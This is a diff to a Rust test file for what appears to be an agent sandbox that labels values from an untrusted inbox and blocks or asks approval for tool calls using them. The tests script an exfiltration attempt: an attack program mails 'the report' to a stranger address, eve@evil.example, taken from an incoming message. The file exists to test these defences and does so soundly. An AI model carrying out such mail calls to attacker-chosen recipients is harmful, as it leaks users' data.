@@ -238,7 +238,7 @@ async fn a_question_shows_value_origin_and_rule() {
     let [question] = waiting.questions.as_slice() else { panic!("{:?}", waiting.questions) };
     let help = question.form["help"].as_str().unwrap();
     let expected = "mission: Do the work of the office. Roles are reader and admin.\n\
-        to ← inbox (untrusted)\n  by (tool/inbox {}) → (first mails) → (:from (first mails))\n\
+        to ← inbox (untrusted)\n  by (tool/inbox {}) → mails → (first mails) → (:from (first mails))\n\
         rule: `untrusted` values need a yes\n\
         write {\"to\":\"eve@evil.example\",\"body\":\"the report\"}";
     assert_eq!(help, expected);
@@ -261,7 +261,10 @@ async fn a_denied_call_is_a_problem_that_the_program_can_catch() {
     let mut case = mail_of_a_stranger();
     case.attack = "(return (try (tool/mail {:to (if ctx/boss (:from (first mails)) ctx/hook) :body \"x\"}) (catch Exception e (:kind (ex-data e)))))".to_string();
     let (report, records, calls) = run(&case, true, rules(OnLabel::Deny)).await;
-    assert_eq!((report.value.value(), calls), (&json!("denied").into(), Vec::new()));
+    assert_eq!((report.value.value(), calls), (&json!("tool-denied").into(), Vec::new()));
     let call = &records[0].turn_records[1].calls[0];
-    assert_eq!(call.error.as_ref().unwrap().message, "");
+    assert_eq!(
+        call.error.as_ref().unwrap().message,
+        "was denied: a call of `mail` may not get to ← inbox (untrusted)"
+    );
 }
